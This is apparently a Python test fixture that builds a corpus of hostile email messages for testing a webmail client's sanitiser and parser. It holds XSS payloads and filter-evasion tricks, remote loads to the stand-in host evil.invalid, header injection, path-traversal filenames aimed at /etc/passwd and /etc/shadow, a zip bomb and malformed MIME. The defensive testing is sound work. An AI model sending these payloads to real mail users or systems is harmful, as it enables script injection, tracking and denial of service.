"""A corpus of hostile messages for the webmail: every known way mail tries
to run script, leak a request or break a parser. Each entry is
``(name, raw bytes)``; script sets ``window.__pwned`` or opens a dialog,
remote requests go to ``evil.invalid``.
"""

import base64
import io
import zipfile

EVIL = "http://evil.invalid"
PWN = "window.__pwned=1;alert(1)"
DATA_HTML = base64.b64encode(b"<script>alert(1)</script>").decode()
DATA_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
).decode()

HTML_EVERYWHERE = f"""<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/style.css">
<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/bg.png) }}</style>
<script>{PWN}</script>
<script src="{EVIL}/x.js"></script>
</head><body onload="{PWN}" background="{EVIL}/body.png">
<p>Visible text of the hostile message</p>
<img src="x" onerror="{PWN}">
<img src="{EVIL}/track.gif" width="1" height="1">
<img srcset="{EVIL}/set.png 1x">
<svg onload="{PWN}"><script>{PWN}</script><image href="{EVIL}/svg.png"/></svg>
<iframe src="javascript:{PWN}"></iframe><iframe srcdoc="<script>parent.{PWN}</script>"></iframe>
<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">
<form action="javascript:{PWN}"><input autofocus onfocus="{PWN}"><button>go</button></form>
<a href="javascript:{PWN}">js link</a>
<a href="JaVaScRiPt&#58;{PWN}">entity js link</a>
<a href="data:text/html;base64,{DATA_HTML}">data link</a>
<a href="vbscript:msgbox(1)">vb link</a>
<div style="background-image:url({EVIL}/div.png);width:expression(alert(1))">css</div>
<div style="behavior:url(#default#time2)">behavior</div>
<p style="color:red;-moz-binding:url({EVIL}/xbl)">binding</p>
<p style="background:u\\rl({EVIL}/escaped.png)">escaped css</p>
<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">math</maction></math>
<details open ontoggle="{PWN}"><summary>details</summary></details>
<video poster="{EVIL}/poster.png" src="{EVIL}/v.mp4"></video><audio src="{EVIL}/a.mp3"></audio>
<table background="{EVIL}/table.png"><tr><td background="{EVIL}/td.png">cell</td></tr></table>
<scr<script>ipt>{PWN}</scr</script>ipt>
<<script>script>{PWN}<</script>/script>
<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>
<template><script>{PWN}</script></template>
<img src="data:image/svg+xml;base64,{DATA_SVG}">
<a href="{EVIL}/ok">plain remote link</a>
</body></html>"""

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;alert(1)">
<script>window.__pwned=1;alert(1)</script><image href="http://evil.invalid/svg-in-svg.png"/></svg>"""


def _mime(headers, body):
    head = "".join("%s: %s\r\n" % item for item in headers)
    return (head + "\r\n").encode() + body


def _base(subject, content_type, extra=()):
    return [
        ("From", "Mallory <mallory@outside.test>"),
        ("To", "alice@webmail.test"),
        ("Subject", subject),
        ("Date", "Tue, 03 Mar 2026 10:00:00 +0000"),
        ("Message-ID", "<%s@outside.test>" % abs(hash(subject))),
        ("MIME-Version", "1.0"),
        ("Content-Type", content_type),
        *extra,
    ]


def html_everywhere():
    body = (
        "--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HTML_EVERYWHERE + "\r\n--B--\r\n"
    ).encode()
    return _mime(_base("Hostile HTML", 'multipart/alternative; boundary="B"'), body)


def svg_everywhere():
    svg = base64.encodebytes(SVG).decode()
    body = (
        "--B\r\nContent-Type: text/html\r\n\r\n"
        '<p>SVG inline</p><img src="cid:evil@svg"><object data="cid:evil@svg"></object>\r\n'
        "--B\r\nContent-Type: image/svg+xml\r\nContent-ID: <evil@svg>\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + svg + "\r\n"
        "--B\r\nContent-Type: image/svg+xml; name=evil.svg\r\n"
        'Content-Disposition: inline; filename="evil.svg"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n" + svg + "\r\n"
        "--B\r\nContent-Type: text/html; name=page.html\r\n"
        'Content-Disposition: attachment; filename="page.html"\r\n\r\n'
        "<script>window.__pwned=1;alert(1)</script>\r\n--B--\r\n"
    ).encode()
    return _mime(_base("Hostile SVG", 'multipart/related; boundary="B"'), body)


def malformed_mime():
    body = (
        b"preamble\r\n--B\r\nContent-Type: text/plain; charset=\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!not*base64@@@\r\n"
        b'--B\r\nContent-Type: \x00garbage/\xff\xfe; charset="\r\n\r\nbroken header part\r\n'
        b'--B\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nsame boundary\r\n'
        b"--B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        b"=3Cscript=3Ewindow.__pwned=3D1=3C/script=3E=ZZ=\r\n"
        b"--B\r\nContent-Type: message/rfc822\r\n\r\nnot really a message\r\n"
    )  # no closing boundary
    return _mime(_base("Malformed MIME", 'multipart/mixed; boundary="B"'), body)


def wrong_charsets():
    body = (
        '--B\r\nContent-Type: text/plain; charset="x-unknown-charset"\r\n\r\n'
        "caf\xe9 in latin-1 declared unknown\r\n"
        '--B\r\nContent-Type: text/html; charset="utf-7"\r\n\r\n'
        "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-<p>utf-7</p>\r\n"
        '--B\r\nContent-Type: text/plain; charset="utf-8"; name="l.txt"\r\n'
        "Content-Disposition: attachment; filename*=bogus''%FF%FE\r\n\r\n"
        "\xff\xfe invalid utf-8\r\n--B--\r\n"
    ).encode("latin-1")
    unknown = base64.b64encode(b"\xff\xfe").decode()
    subject = "=?x-unknown?B?" + unknown + "?= =?utf-8?Q?caf=C3=A9?="
    return _mime(_base(subject, 'multipart/mixed; boundary="B"'), body)


def header_injection():
    crlf = base64.b64encode(b"Hello\r\nBcc: victim@outside.test\r\n\r\n<script>x</script>")
    headers = [
        ("From", '"<img src=x onerror=window.__pwned=1>" <mallory@outside.test>'),
        ("To", "alice@webmail.test, =?utf-8?Q?=0D=0ABcc=3A_x=40y?= <x@y.test>"),
        ("Cc", '"<script>alert(1)</script>" <cc@outside.test>'),
        ("Subject", "=?utf-8?B?%s?= <script>window.__pwned=1</script>" % crlf.decode()),
        ("Date", "not a date <script>"),
        ("Message-ID", "<inject@outside.test>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=utf-8"),
    ]
    return _mime(headers, b"Header injection body.\r\n")


def traversal_names():
    parts = []
    for name in (
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\evil.bat",
        "/absolute/path.txt",
        ".htaccess",
        "<script>alert(1)</script>.html",
        "name\r\nwith newline.txt",
    ):
        parts.append(
            '--B\r\nContent-Type: application/octet-stream; name="x"\r\n'
            'Content-Disposition: attachment; filename="%s"\r\n\r\ndata\r\n'
            % name.replace("\r\n", " ")
        )
    parts.append(
        "--B\r\nContent-Type: text/plain\r\n"
        "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fshadow%00.txt\r\n\r\n"
        "rfc2231\r\n"
    )
    body = "--B\r\nContent-Type: text/plain\r\n\r\nSee attachments.\r\n" + "".join(parts)
    body += "--B--\r\n"
    return _mime(_base("Traversal names", 'multipart/mixed; boundary="B"'), body.encode())


def deeply_nested(depth=300):
    opening = "".join(
        '--L%d\r\nContent-Type: multipart/mixed; boundary="L%d"\r\n\r\n' % (level, level + 1)
        for level in range(depth)
    )
    closing = "".join("--L%d--\r\n" % level for level in range(depth, -1, -1))
    body = opening + "--L%d\r\nContent-Type: text/plain\r\n\r\ndeep\r\n" % depth + closing
    return _mime(_base("Deeply nested", 'multipart/mixed; boundary="L0"'), body.encode())


def zip_bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\0" * (64 * 1024 * 1024))
    data = base64.encodebytes(buffer.getvalue()).decode()
    body = (
        "--B\r\nContent-Type: text/plain\r\n\r\nOpen me.\r\n"
        "--B\r\nContent-Type: application/zip; name=bomb.zip\r\n"
        'Content-Disposition: attachment; filename="bomb.zip"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n" + data + "\r\n--B--\r\n"
    )
    return _mime(_base("Zip bomb", 'multipart/mixed; boundary="B"'), body.encode())


def huge_body(size=10 * 1024 * 1024):
    line = b"0123456789 abcdefghijklmnopqrstuvwxyz <script>window.__pwned=1</script>\r\n"
    body = line * (size // len(line) + 1)
    return _mime(_base("Huge body", "text/plain; charset=utf-8"), body)


def nested_hostile_message():
    inner = html_everywhere()
    body = (
        b"--B\r\nContent-Type: text/plain\r\n\r\nForwarded.\r\n"
        b"--B\r\nContent-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--B--\r\n"
    )
    return _mime(_base("Nested hostile", 'multipart/mixed; boundary="B"'), body)


def raw_8bit_headers():
    return (
        b"From: J\xc3\xa9r\xc3\xb4me <j@outside.test>\r\nTo: \xff\xfe <alice@webmail.test>\r\n"
        b"Subject: Raw caf\xe9 \xff<script>window.__pwned=1</script>\r\n"
        b"Date: Tue, 03 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/plain\r\n\r\nbody caf\xe9\r\n"
        b'--B\r\nContent-Type: text/plain; name="n\xe9.txt"\r\nContent-ID: <\xe9>\r\n'
        b'Content-Disposition: attachment; filename="r\xe9sum\xe9.txt"\r\n\r\nx\r\n--B--\r\n'
    )


def corpus():
    return [
        ("raw8bit", raw_8bit_headers()),
        ("html", html_everywhere()),
        ("svg", svg_everywhere()),
        ("malformed", malformed_mime()),
        ("charsets", wrong_charsets()),
        ("headers", header_injection()),
        ("traversal", traversal_names()),
        ("nested", deeply_nested()),
        ("zipbomb", zip_bomb()),
        ("huge", huge_body()),
        ("forwarded", nested_hostile_message()),
    ]
